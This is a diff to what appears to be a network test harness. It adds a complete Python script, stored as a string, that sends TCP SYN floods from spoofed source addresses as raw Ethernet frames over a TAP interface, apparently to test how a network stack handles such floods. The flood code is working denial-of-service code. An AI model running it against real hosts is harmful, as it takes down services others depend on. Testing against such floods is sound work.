@@ -93,3 +93,35 @@ d, a = s.recvfrom(65535)
 s.sendto(d.upper(), a)
 print(json.dumps({"got": d.decode(), "from": a[0]}), flush=True)
 '''
+
+# SYN flood from spoofed off-link sources, as raw Ethernet frames on the TAP's kernel side
+SYN_FLOOD = '''
+import json, random, socket, struct, sys
+ifname, dst_mac, dst_ip, port, count = sys.argv[1], bytes.fromhex(sys.argv[2]), sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+s.bind((ifname, 0))
+src_mac = open(f"/sys/class/net/{ifname}/address").read().strip()
+src_mac = bytes.fromhex(src_mac.replace(":", ""))
+def csum(b):
+    if len(b) % 2:
+        b += b"\\0"
+    v = sum(struct.unpack(f"!{len(b)//2}H", b))
+    while v >> 16:
+        v = (v & 0xFFFF) + (v >> 16)
+    return ~v & 0xFFFF
+dst = socket.inet_aton(dst_ip)
+rng = random.Random(1)
+sent = 0
+for i in range(count):
+    src = bytes([198, 18, rng.randrange(256), rng.randrange(1, 255)])
+    sport = rng.randrange(1024, 65535)
+    opts = b"\\x02\\x04\\x05\\xb4"
+    tcp = struct.pack("!HHIIBBHHH", sport, port, rng.getrandbits(32), 0, 6 << 4, 2, 65535, 0, 0) + opts
+    ph = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
+    tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp)) + tcp[18:]
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i & 0xFFFF, 0, 64, 6, 0, src, dst)
+    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
+    s.send(dst_mac + src_mac + b"\\x08\\x00" + ip + tcp)
+    sent += 1
+print(json.dumps({"sent": sent}))
+'''
